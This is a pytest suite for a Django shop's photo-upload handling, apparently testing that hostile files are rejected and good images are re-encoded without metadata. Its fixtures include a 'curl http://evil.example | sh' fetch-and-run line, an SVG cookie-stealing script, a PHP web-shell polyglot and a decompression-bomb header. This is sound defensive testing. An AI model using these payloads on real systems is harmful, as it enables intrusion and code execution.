"""Uploaded photos: hostile files are refused; good ones are re-encoded without metadata."""

from __future__ import annotations

import io
import struct
import zlib

import pytest
from django.core.exceptions import PermissionDenied, ValidationError
from django.core.files.uploadedfile import SimpleUploadedFile
from PIL import Image

from etalase.catalog import images
from etalase.catalog.models import ProductImage
from tests.factories import buyer, make_product, owner_of

pytestmark = pytest.mark.django_db


def _jpeg(size=(64, 48), color=(200, 80, 20), exif: Image.Exif | None = None) -> bytes:
    out = io.BytesIO()
    image = Image.new("RGB", size, color)
    kwargs = {"exif": exif} if exif is not None else {}
    image.save(out, format="JPEG", **kwargs)
    return out.getvalue()


def _png(size=(64, 48), mode="RGBA") -> bytes:
    out = io.BytesIO()
    Image.new(mode, size).save(out, format="PNG")
    return out.getvalue()


def _chunk(kind: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


def _png_header_only(width: int, height: int) -> bytes:
    """A tiny PNG file that claims huge dimensions (a decompression bomb's header)."""
    ihdr = struct.pack(">IIBBBBB", width, height, 1, 0, 0, 0, 0)
    idat = zlib.compress(b"\x00" * 1024)
    return (b"\x89PNG\r\n\x1a\n" + _chunk(b"IHDR", ihdr) + _chunk(b"IDAT", idat)
            + _chunk(b"IEND", b""))


def _upload(data: bytes, name: str = "photo.jpg", content_type: str = "image/jpeg"):
    return SimpleUploadedFile(name, data, content_type=content_type)


def _refused(data: bytes, code: str, **kwargs) -> None:
    with pytest.raises(ValidationError) as info:
        images.process_upload(_upload(data, **kwargs))
    assert info.value.code == code, info.value


# --- Hostile files -----------------------------------------------------------------------------


def test_a_script_named_jpg_is_refused():
    _refused(b"#!/bin/sh\ncurl http://evil.example | sh\n", "not_image")


def test_svg_with_a_script_is_refused_whatever_its_name():
    svg = (b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg">'
           b'<script>alert(document.cookie)</script></svg>')
    _refused(svg, "not_image", name="logo.svg", content_type="image/svg+xml")
    _refused(svg, "not_image", name="logo.png", content_type="image/png")


def test_html_is_refused():
    _refused(b"<html><body onload=alert(1)>", "not_image", name="x.webp")


def test_a_gif_is_refused():
    out = io.BytesIO()
    Image.new("RGB", (10, 10)).save(out, format="GIF")
    _refused(out.getvalue(), "not_image", name="x.gif")


def test_a_decompression_bomb_is_refused_from_its_header():
    _refused(_png_header_only(100_000, 100_000), "bomb", name="bomb.png")
    _refused(_png_header_only(9_000, 9_000), "too_big", name="big.png")  # under Pillow's limit


def test_pillows_own_pixel_limit_is_kept_and_is_an_error(monkeypatch):
    # Between MAX_IMAGE_PIXELS and twice that Pillow only warns; here the warning refuses.
    monkeypatch.setattr(Image, "MAX_IMAGE_PIXELS", 1000)
    _refused(_png((40, 40)), "bomb", name="warn.png")  # 1,600 pixels
    _refused(_png((60, 60)), "bomb", name="error.png")  # 3,600 > 2 × 1,000


def test_huge_dimensions_are_refused():
    _refused(_png((images.MAX_SIDE + 1, 2), mode="1"), "too_big", name="wide.png")


def test_too_many_megapixels_are_refused(monkeypatch):
    monkeypatch.setattr(images, "MAX_PIXELS", 1000)
    _refused(_png((50, 50)), "too_big", name="big.png")


def test_a_file_over_the_byte_limit_is_refused(settings):
    settings.IMAGE_UPLOAD_MAX_BYTES = 500
    _refused(_jpeg((200, 200)) + b"\x00" * 1000, "too_large")


def test_a_truncated_image_is_refused():
    _refused(_jpeg((300, 300))[:400], "broken")


def test_a_jpeg_header_on_garbage_is_refused():
    _refused(b"\xff\xd8\xff\xe0" + b"garbage" * 50, "broken")


# --- Good files, re-encoded ----------------------------------------------------------------------


def _open(content) -> Image.Image:
    content.seek(0)
    return Image.open(io.BytesIO(content.read()))


def test_exif_including_gps_is_stripped():
    exif = Image.Exif()
    exif[0x010F] = "CameraMaker"  # Make
    exif[0x8825] = {1: "S", 2: (1.0, 2.0, 3.0)}  # GPS IFD
    data = _jpeg(exif=exif)
    assert b"CameraMaker" in data
    processed = images.process_upload(_upload(data))
    processed.image.seek(0)
    raw = processed.image.read()
    assert b"CameraMaker" not in raw
    result = _open(processed.image)
    assert not result.getexif()
    assert "exif" not in result.info


def test_orientation_is_applied_before_the_exif_is_dropped():
    exif = Image.Exif()
    exif[0x0112] = 6  # rotate 90°: a 40×20 sensor image is a 20×40 photo
    processed = images.process_upload(_upload(_jpeg((40, 20), exif=exif)))
    assert (processed.width, processed.height) == (20, 40)


def test_images_are_re_encoded_and_resized_with_a_thumbnail():
    processed = images.process_upload(_upload(_jpeg((3200, 1000))))
    main, thumb = _open(processed.image), _open(processed.thumbnail)
    assert main.format == "WEBP" and thumb.format == "WEBP"
    assert main.size == (1600, 500) == (processed.width, processed.height)
    assert max(thumb.size) == images.THUMB_SIDE
    assert processed.image.name.endswith(".webp")
    assert "photo" not in processed.image.name  # the uploader's file name is not kept


def test_bytes_after_the_image_are_not_kept():
    payload = b"PK\x03\x04 zip polyglot <?php system($_GET['c']); ?>"
    processed = images.process_upload(_upload(_jpeg() + payload))
    processed.image.seek(0)
    assert b"<?php" not in processed.image.read()


def test_transparency_survives():
    processed = images.process_upload(_upload(_png((30, 30), mode="RGBA"), name="a.png"))
    assert _open(processed.image).mode == "RGBA"


def test_palette_and_greyscale_images_are_accepted():
    for mode in ("P", "L", "1", "CMYK"):
        out = io.BytesIO()
        fmt = "JPEG" if mode == "CMYK" else "PNG"
        Image.new(mode, (20, 20)).save(out, format=fmt)
        processed = images.process_upload(_upload(out.getvalue()))
        assert _open(processed.image).mode in ("RGB", "RGBA")


# --- The write ------------------------------------------------------------------------------------


def test_owner_adds_a_photo_recorded_in_the_history():
    product = make_product()
    owner = owner_of(product.enterprise)
    image = images.image_add(actor=owner, product=product, upload=_upload(_jpeg()),
                             alt_text="Biji kakao kering")
    assert image.image.name.endswith(".webp") and image.thumbnail.name.endswith(".webp")
    assert image.alt_text == "Biji kakao kering"
    latest = product.history.first()
    assert latest.history_user == owner
    assert latest.history_change_reason == "image added"


def test_only_those_who_may_change_the_product_add_photos():
    product = make_product()
    with pytest.raises(PermissionDenied):
        images.image_add(actor=buyer(), product=product, upload=_upload(_jpeg()))
    with pytest.raises(PermissionDenied):
        images.image_add(actor=owner_of(make_product().enterprise), product=product,
                         upload=_upload(_jpeg()))
    assert not ProductImage.objects.exists()


def test_a_product_has_a_bounded_number_of_photos(monkeypatch):
    monkeypatch.setattr(images, "MAX_IMAGES_PER_PRODUCT", 2)
    product = make_product()
    owner = owner_of(product.enterprise)
    for _ in range(2):
        images.image_add(actor=owner, product=product, upload=_upload(_jpeg()))
    with pytest.raises(ValidationError):
        images.image_add(actor=owner, product=product, upload=_upload(_jpeg()))


def test_removing_a_photo_deletes_its_files(django_capture_on_commit_callbacks):
    product = make_product()
    owner = owner_of(product.enterprise)
    image = images.image_add(actor=owner, product=product, upload=_upload(_jpeg()))
    storage, name = image.image.storage, image.image.name
    assert storage.exists(name)
    with django_capture_on_commit_callbacks(execute=True):
        images.image_remove(actor=owner, image=image)
    assert not storage.exists(name)
    assert not ProductImage.objects.exists()
